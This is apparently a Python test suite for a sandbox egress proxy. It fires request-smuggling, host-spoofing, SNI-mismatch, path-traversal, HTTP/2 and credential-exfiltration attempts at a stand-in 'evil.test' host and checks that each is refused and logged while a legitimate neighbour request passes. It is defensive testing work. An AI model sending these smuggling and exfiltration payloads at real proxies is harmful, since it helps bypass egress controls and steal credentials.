#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks on the way out, by the ids of the attack list, from a raw socket in a
real cell: each is refused, no byte of it reaches an origin, and the book has
exactly one row of it; its neighbour, which is allowed, still arrives."""
import base64
import json
import os
import sys
import re
import signal
import subprocess
import tempfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'api'))
from house import *  # noqa: E402,F403
from origin import Origin, certificates, server_context  # noqa: E402

CANARY = 'canary-Zq8/vault+7731==x'
NAMES = ('good.test', 'api.test', 'place.test', 'sock.test', 'small.test', 'evil.test')

# Run in the cell: what it says to whom, and what it hears, as JSON lines.
CLIENT = r'''
import base64, json, os, socket, ssl, sys
def talk(t):
    context = ssl.create_default_context()
    heard = b''
    try:
        s = socket.create_connection((t['host'], t['port']), 10)
        s.settimeout(t['wait'])
        if t['via']:
            s.sendall(t['via'].encode('latin1'))
            heard = s.recv(65536)
            if b' 200 ' not in heard:
                return heard
            heard = b''
        if t['tls']:
            if t['alpn']:
                context.set_alpn_protocols([t['alpn']])
            if t['sni'] != t['host']:
                context.check_hostname = False
            s = context.wrap_socket(s, server_hostname=t['sni'] or None)
        for piece in t['say']:
            s.sendall(base64.b64decode(piece).replace(
                b'@MARK@', os.environ.get('API_KEY', '').encode()))
        while len(heard) < 4000000:
            piece = s.recv(65536)
            if not piece:
                break
            heard += piece
            if t['until'] and t['until'].encode('latin1') in heard:
                break
    except (OSError, ssl.SSLError) as e:
        heard += b' !' + type(e).__name__.encode()
    return heard
for t in json.loads(sys.argv[1]):
    print('=' + base64.b64encode(talk(t)).decode(), flush=True)
'''

RULE = '''
[egress.%s]
match    = { host = "%s.test"%s }
upstream = "127.0.0.1:%d"
ca       = "%s"
'''


class World:
    """One house, its good and its evil origin, for all tests of this file."""

    def __init__(self):
        self.folder = tempfile.mkdtemp(prefix='attack-')
        os.chmod(self.folder, 0o755)
        certificates(self.folder, NAMES)
        context = server_context(self.folder)
        self.good = Origin(context)
        self.evil = Origin(context)
        self.tunnel = Origin(tunnel=True)
        self.house = House()
        write(os.path.join(self.house.folder, 'ca.pem'), self.read('ca.pem'))
        self.house.role_file('helper', 'gates.toml', self.gates())
        self.house.start()
        self.house.ok('vault', 'put', 'key', '--host', 'good.test api.test place.test sock.test',
                      input=CANARY)

    def read(self, name):
        with open(os.path.join(self.folder, name)) as f:
            return f.read()

    def gates(self, more=''):
        ca = os.path.join(self.house.folder, 'ca.pem')
        inject = ('inject   = { credential = "key", header = "Authorization", '
                  'format = "Bearer {{secret}}" }\n')

        def rule(name, match='', rest='', port=None):
            return RULE % (name, name, match, port or self.good.port, ca) + rest

        return GATES + rule('good', ', path = "/**"', inject) + \
            rule('api', '', 'inject = { credential = "key", json = "/auth/key" }\n') + \
            rule('place', '', 'inject = { credential = "key", query = "k", '
                 'placeholder = "API_KEY" }\n') + \
            rule('sock', '', 'websocket = true\n' + inject) + \
            rule('small', ', method = "GET|POST"', 'body_max = 10\nrate = "5/1h"\n') + \
            rule('evil', ', path = "/echo/**"', port=self.evil.port) + more + \
            '[egress.ssh]\nmatch = { host = "ssh.test", port = 22 }\nprotocol = "tcp"\n' + \
            'upstream = "127.0.0.1:%d"\n' % self.tunnel.port

    def bytes(self):
        return len(self.good.got) + len(self.evil.got) + len(self.tunnel.got)


WORLD = None


def world():
    global WORLD
    if WORLD is None:
        WORLD = World()
    return WORLD


def to(host, *say, tls=True, port=None, sni=None, via='', wait=5, until='', alpn=''):
    """One connection: what is said is text (latin-1) or bytes."""
    return {'host': host, 'port': port or (443 if tls else 80), 'tls': tls,
            'sni': host if sni is None else sni, 'via': via, 'alpn': alpn, 'wait': wait, 'until': until,
            'say': [base64.b64encode(s if isinstance(s, bytes) else s.encode('latin1')).decode()
                    for s in say]}


def cell(*talks):
    a = world().house.cli('sandbox', 'run', '--identity', 'helper', '--', 'python3', '-c',
                          CLIENT, json.dumps(talks), timeout=90)
    lines = [x[1:] for x in a.out.split('\n') if x.startswith('=')]
    need(len(lines) >= len(talks), 'the client in the cell', a)
    return [base64.b64decode(x) for x in lines[:len(talks)]]


def rows(kind):
    return [e for e in world().house.events() if e['kind'] == kind]


def refused(talk, status=b'', reason='', rows_of='request_denied', early=None):
    """Not a byte of it arrives, somebody is told, and one row says why."""
    w = world()
    had, before = w.bytes(), len(rows(rows_of))
    heard, = cell(talk)
    need(w.bytes() == had, 'bytes reached an origin', w.good.got[-300:], w.evil.got[-300:])
    if status:
        need(heard.startswith(b'HTTP/1.1 ' + status), 'told', heard[:300])
    new = rows(rows_of)[before:]
    need(len(new) == 1, 'exactly one row', new, heard[:200])
    need(reason in json.dumps(new[0]), 'the row says why', new, reason)
    need(CANARY not in json.dumps(new), 'no credential in the book')
    return heard


def arrives(talk, says=b'HTTP/1.1 200'):
    had = world().bytes()
    heard, = cell(talk)
    need(says in heard, 'the neighbour works', heard[:400])
    need(world().bytes() > had, 'it arrived')
    need(CANARY.encode() not in heard, 'the credential came back')
    return heard


def head(line='GET /a', host='good.test', more='', end='Connection: close\r\n'):
    return '%s HTTP/1.1\r\nHost: %s\r\n%s%s\r\n' % (line, host, more, end)


def allowed(more='', line='GET /a', body=''):
    return to('good.test', head(line, more=more) + body)


def post(more, body):
    return to('good.test', head('POST /a', more=more) + body)


def attack(name, talk, status=b'', reason='', twin=None, **more):
    """A row of the table: the attack and its legitimate neighbour."""
    def run():
        refused(talk, status, reason, **more)
        arrives(twin or allowed())
    run.__name__ = name
    test(run)


CHUNKS = 'Transfer-Encoding: chunked\r\n'

# --- names and targets ---------------------------------------------------------
attack('N01_a_NUL_in_the_name_of_CONNECT', to(
    'any.test', tls=False, port=3128, wait=3,
    via='CONNECT evil.test\0.good.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n'), b'400',
    twin=to('good.test', head(), port=443))
attack('N02_a_blank_in_the_host', to('good.test', head(host='good.test evil.test')), b'400')
attack('N03_a_dot_behind_another_name', to('evil.test.', head(host='evil.test.'),
                                           sni='evil.test'), b'403', 'path')
attack('N04_brackets_around_a_name', to('good.test', head(host='[good.test]')), b'400')
attack('N05_a_fullwidth_dot_in_the_host', to('good.test', head(host='good\xef\xbc\x8etest')),
       b'4')
attack('N06_a_suffix_that_is_not_at_a_label', to(
    'evilgood.test', head(host='evilgood.test')), b'403', 'no egress rule')
attack('N08_userinfo_in_an_absolute_URI', to(
    'good.test', head('GET http://good.test@evil.test/', 'evil.test'), tls=False), b'400')
attack('N10_an_address_instead_of_its_name', to(
    '192.0.2.10', head(host='good.test'), tls=False), b'403', 'Host says')
attack('N11_another_port_of_an_allowed_name', to(
    'good.test', head(host='good.test:8443'), port=8443), b'403', '8443')
attack('N14_two_hosts', to('good.test', head(more='Host: evil.test\r\n')), b'400')
attack('N14_no_host', to('good.test', 'GET /a HTTP/1.1\r\n\r\n'), b'400')
attack('N15_a_path_that_is_a_URL', to(
    'good.test', head('GET http://evil.test/echo/')), b'4')
attack('N16_an_address_that_was_never_issued', to(
    '198.19.200.200', head(), tls=False, wait=3), reason='stands for no name')

# --- TLS -------------------------------------------------------------------------
attack('T01_the_hello_names_another', to('good.test', head(), sni='evil.test'),
       reason='TLS hello names')
attack('T02_the_inner_host_is_another', to('good.test', head(host='evil.test')), b'403',
       'Host says')
attack('T03_no_server_name', to('good.test', head(), sni=''), reason='no server name')
attack('T06_plain_http_to_a_host_with_a_credential', to('good.test', head(), tls=False,
       port=443), b'403')
attack('T10_other_bytes_than_TLS_or_HTTP', to(
    'good.test', 'SSH-2.0-x\r\n\x01\x02\r\n', tls=False, port=443, wait=3), b'400', 'neither')
attack('T11_another_host_in_the_same_connection', to(
    'good.test', head(host='evil.test', end='') + head()), b'403', 'Host says')

# --- HTTP/1 ----------------------------------------------------------------------
attack('H01_both_lengths', post('Content-Length: 5\r\n' + CHUNKS, '0\r\n\r\n'), b'400')
attack('H01_two_lengths', post('Content-Length: 5\r\nContent-Length: 6\r\n', 'hello!'), b'400')
attack('H01_a_list_of_lengths', post('Content-Length: 5,5\r\n', 'hello'), b'400',
       twin=post('Content-Length: 5\r\n', 'hello'))
attack('H02_chunked_and_another', post('Transfer-Encoding: gzip, chunked\r\n', '0\r\n\r\n'),
       b'400', twin=post(CHUNKS, '5\r\nhello\r\n0\r\n\r\n'))
attack('H02_a_blank_before_the_colon', post('Transfer-Encoding : chunked\r\n', '0\r\n\r\n'),
       b'400')
attack('H03_a_bare_line_feed', allowed('X: a\nY: b\r\n'), b'400')
attack('H03_a_folded_line', allowed('X: a\r\n b\r\n'), b'400')
attack('H05_version_2_0', to('good.test', 'GET / HTTP/2.0\r\nHost: good.test\r\n\r\n'), b'505')
attack('H11_an_unknown_expectation', allowed('Expect: magic\r\n'), b'417')
attack('H12_dots_in_the_path', allowed(line='GET /a/../b'), b'4')
attack('H12_dots_percent_encoded', allowed(line='GET /a/%2e%2e/b'), b'4')
attack('H12_a_slash_percent_encoded', allowed(line='GET /a%2fb'), b'4',
       twin=allowed(line='GET /a%20b'))
attack('H13_TRACE', allowed(line='TRACE /a'), b'405')
attack('H14_h2c', allowed('Connection: Upgrade\r\nUpgrade: h2c\r\n'), b'400')
attack('H16_a_head_of_70_KiB', allowed('X: %s\r\n' % ('a' * 70000)), b'431')
attack('H16_a_URL_of_9_KiB', allowed(line='GET /' + 'a' * 9000), b'414')

# --- credentials -----------------------------------------------------------------
attack('P17_a_credential_of_the_cells_own', allowed('Authorization: Bearer mine\r\n'), b'403',
       'own_credentials')
attack('P17_a_cookie_of_the_cells_own', allowed('Cookie: a=b\r\n'), b'403')
attack('P17_a_key_in_the_query', allowed(line='GET /a?access_token=mine'), b'403')
attack('W01_an_upgrade_where_the_rule_has_none', allowed(
    'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n'
    'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n'), b'403', 'websocket')


def executed(talk, status, reason):
    """Allowed by the rule, refused by the egress: the intent's outcome says so."""
    refused(talk, status, reason, rows_of='request_outcome')


@test
def P01_P02_P16_a_placeholder_goes_to_its_place_alone():
    executed(to('good.test', head('GET /a?k=@MARK@')), b'403', 'placeholder')
    executed(allowed('X-Key: @MARK@\r\n'), b'403', 'placeholder')
    executed(to('place.test', head('GET /a?j=@MARK@', 'place.test')), b'403', 'place')
    basic = 'Basic ' + base64.b64encode(b'u:hr_placeholder_' + b'0' * 32).decode()
    executed(allowed('X-Auth: %s\r\n' % basic), b'403', 'placeholder')
    arrives(to('place.test', head('GET /a?k=@MARK@&b=c', 'place.test')))
    need(b'GET /a?k=canary-Zq8%2Fvault%2B7731%3D%3Dx&b=c ' in world().good.got,
         world().good.got[-300:])


@test
def P03_a_placeholder_in_pieces_is_one():
    text = head('GET /a?k=hr_placeholder_' + '0' * 32)
    executed(to('good.test', *[text[i:i + 7] for i in range(0, len(text), 7)]), b'403',
             'placeholder')


@test
def P05_a_guessed_placeholder_is_none():
    executed(to('place.test', head('GET /a?k=hr_placeholder_' + '0' * 32, 'place.test')),
             b'403', 'place')


@test
def P07_a_body_gets_its_exact_length():
    body = '{"auth":{},"n":1.0}'
    more = 'Content-Type: application/json\r\nContent-Length: %d\r\n' % len(body)
    arrives(to('api.test', head('POST /a', 'api.test', more) + body))
    sent = ('{"auth":{"key":"%s"},"n":1.0}' % CANARY).encode()
    need(sent in world().good.got and b'Content-Length: %d\r\n' % len(sent) in world().good.got,
         world().good.got[-400:])
    executed(to('api.test', head('POST /a', 'api.test', 'Content-Length: 2\r\n') + '{}'),
             b'403', 'json')


# --- answers ---------------------------------------------------------------------

def washed(path):
    heard, = cell(to('good.test', head('GET ' + path)))
    need(CANARY.encode() not in heard, 'it came back', heard)
    need(base64.b64encode(CANARY.encode())[4:20] not in heard, 'in base64', heard)
    return heard


@test
def R01_an_echo_does_not_bring_it_back():
    need(b'removed-by-handrail' in washed('/echo'), 'rewritten')
    need(b'X-Back: removed-by-handrail' in washed('/header'), 'in a header')
    before = len(rows('request_outcome'))
    need(b'HTTP/1.1 200' in washed('/length'), 'cut behind its head')
    row = rows('request_outcome')[before]
    need('held a credential' in json.dumps(row), row)


@test
def R02_neither_encoded_nor_compressed():
    need(b'removed-by-handrail' in washed('/base64'), 'base64')
    heard = washed('/gzip')
    need(b'removed-by-handrail' in heard and b'ontent-Encoding' not in heard, heard)


@test
def R07_a_bomb_is_cut():
    heard, = cell(to('good.test', head('GET /bomb'), wait=20))
    need(len(heard) < 20 << 20, len(heard))


@test
def R08_no_part_of_an_answer_is_asked_for():
    heard, = cell(allowed('Range: bytes=0-5\r\n', 'GET /part'))
    need(heard.startswith(b'HTTP/1.1 502') and b'piece' not in heard, heard)
    need(b'ange: bytes' not in world().good.got, 'Range was sent')


@test
def R09_what_was_stored_elsewhere_is_found():
    text = head('GET /echo/' + CANARY.split('/')[0], 'evil.test',
                'X-Stored: %s\r\n' % CANARY)
    first, second = cell(to('good.test', head()), to('evil.test', text))
    need(b'200' in first and b'removed-by-handrail' in second, second)
    need(CANARY.encode() not in second, second)


@test
def H15_a_second_answer_is_nobodys():
    heard, = cell(to('good.test', head('GET /twice', end='') + head('GET /b')))
    need(heard.count(b'HTTP/1.1 200') == 2 and b'no' not in heard.split(b'\r\n\r\n')[1], heard)
    need(heard.endswith(b'ok'), heard)
    heard, = cell(to('good.test', head('GET /split')))
    need(heard.startswith(b'HTTP/1.1 502'), heard)


@test
def H06_each_of_two_requests_is_judged():
    had = len(world().good.got)
    heard, = cell(to('good.test', head('GET /one', end='') +
                     head('GET /two', more='Cookie: a=b\r\n')))
    need(heard.count(b'HTTP/1.1 200') == 1 and b'HTTP/1.1 403' in heard, heard)
    need(b'/two' not in world().good.got[had:], 'the second left')


@test
def H09_H10_only_one_credential_and_no_traces_leave():
    had = len(world().good.got)
    arrives(allowed('Via: 1.1 x\r\nX-Forwarded-For: 10.0.0.1\r\nForwarded: for=a\r\n'
                    'Proxy-Connection: close\r\n'))
    got = world().good.got[had:]
    need(got.count(b'Bearer ' + CANARY.encode()) == 1, got)
    need(b'10.0.0.1' not in got and b'Via' not in got and b'orwarded' not in got, got)


@test
def X01_a_redirect_is_not_followed():
    had = len(world().evil.got)
    heard, = cell(to('good.test', head('GET /moved')))
    need(heard.startswith(b'HTTP/1.1 302') and len(world().evil.got) == had, heard)


# --- other protocols ---------------------------------------------------------------

@test
def W02_W04_a_websocket_is_carried_and_washed():
    upgrade = head('GET /ws', 'sock.test', 'Connection: Upgrade\r\nUpgrade: websocket\r\n'
                   'Sec-WebSocket-Version: 13\r\n'
                   'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n', end='')
    frame = bytes((0x81, 0x80 | len(CANARY))) + b'\0\0\0\0' + CANARY.encode()
    heard, = cell(to('sock.test', upgrade, frame, until='\x80\x00'))
    need(b'HTTP/1.1 101' in heard and b'removed-by-handrail' in heard, heard)
    need(CANARY.encode() not in heard, heard)
    heard, = cell(to('sock.test', upgrade, b'\xf1\x01a', wait=3))
    need(b'101' in heard, heard)


def frame(kind, flags, stream, payload=b''):
    return len(payload).to_bytes(3, 'big') + bytes((kind, flags)) + \
        stream.to_bytes(4, 'big') + payload


def two(stream, host, path='/two', more=b''):
    """A GET of HTTP/2: pseudo fields from the static table, nothing indexed."""
    fields = b'\x82\x87\x04%c%s\x01%c%s' % (len(path), path.encode(), len(host),
                                             host.encode()) + more
    return frame(1, 5, stream, fields)


PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0)


@test
def G05_a_client_of_http2_alone_is_served():
    had = len(world().good.got)
    heard, = cell(to('good.test', PREFACE + two(1, 'good.test') + two(3, 'good.test', '/echo'),
                     alpn='h2', wait=3))
    need(b'ok' in heard and b'removed-by-handrail' in heard, heard)
    need(CANARY.encode() not in heard, heard)
    need(b'GET /two HTTP/1.1' in world().good.got[had:], world().good.got[had:])


@test
def G01_G02_a_stream_is_judged_as_strictly():
    for more, reason in ((b'\0\x06cookie\3a=b', 'own_credentials'),
                         (b'\0\x0d' b'authorization\4mine', 'own_credentials')):
        refused(to('good.test', PREFACE + two(1, 'good.test', more=more), alpn='h2', wait=3),
                reason=reason)
    refused(to('good.test', PREFACE + two(1, 'evil.test'), alpn='h2', wait=3),
            reason='Host says')
    refused(to('good.test', PREFACE + two(1, 'good.test', '/a/../b'), alpn='h2', wait=3))
    heard, = cell(to('good.test', PREFACE + two(1, 'good.test', more=b'\0\1x\4a\r\nb') +
                     two(3, 'good.test', '/three'), alpn='h2', wait=3))
    need(b'ok' in heard, 'the next stream works', heard)


@test
def G05_prior_knowledge_on_plain_tcp_is_refused():
    refused(to('good.test', PREFACE + two(1, 'good.test'), tls=False, port=443, wait=3))


@test
def S02_T12_a_tunnel_only_where_a_rule_says_so():
    heard, = cell(to('ssh.test', 'hello', tls=False, port=22, until='HELLO'))
    need(heard == b'SSH-2.0-origin\r\nHELLO', heard)
    refused(to('other.test', 'SSH-2.0-x\r\n\x01', tls=False, port=22, wait=3), b'400')


@test
def L03_a_body_over_the_cap_and_a_rate_are_refused():
    chunks = head('POST /a', 'small.test', CHUNKS) + '5\r\nhello\r\n5\r\nhello\r\n1\r\n!\r\n0\r\n\r\n'
    heard = cell(to('small.test', chunks),
                 *[to('small.test', head('GET /a', 'small.test')) for _ in range(5)])
    need(heard[0].startswith(b'HTTP/1.1 413'), heard[0])
    need([h[9:12] for h in heard[1:]] == [b'200'] * 4 + [b'429'], heard)


@test
def W03_another_policy_closes_what_an_older_one_allowed():
    w = world()
    script = ('import socket, time\n'
              's = socket.create_connection(("ssh.test", 22), 10)\n'
              'print(s.recv(100), flush=True)\n'
              's.settimeout(20)\n'
              'began = time.monotonic()\n'
              'try:\n    print("end", s.recv(100))\nexcept OSError as e:\n'
              '    print("end", type(e).__name__)\n')
    command = [w.house.handrail, 'sandbox', 'run', '--config', w.house.config, '--state',
               w.house.state, '--identity', HELPER_ID, '--', 'python3', '-u', '-c', script]
    ask = subprocess.Popen(command, env=w.house.env, text=True, stdout=subprocess.PIPE,
                           stdin=subprocess.DEVNULL, preexec_fn=with_parent)
    need('SSH-2.0' in ask.stdout.readline(), 'the tunnel is open')
    w.house.role_file('helper', 'gates.toml', w.gates('# another text\n'))
    end_process(w.house.pids()['core'], signal.SIGHUP)
    out, _ = ask.communicate(timeout=15)
    need('end' in out, out)
    row = rows('request_outcome')[-1]
    need('policy' in json.dumps(row), row)
    arrives(allowed())


@test
def O01_no_credential_and_no_placeholder_is_written_down():
    text = json.dumps(world().house.events()) + world().house.log()
    need(CANARY not in text, 'the credential')
    found = re.search(r'hr_placeholder_[0-9a-f]{8}', text)
    need(not found, found)


if __name__ == '__main__':
    code = main()
    if WORLD is not None:
        WORLD.house.stop()
        WORLD.house.__exit__()
    sys.exit(code)
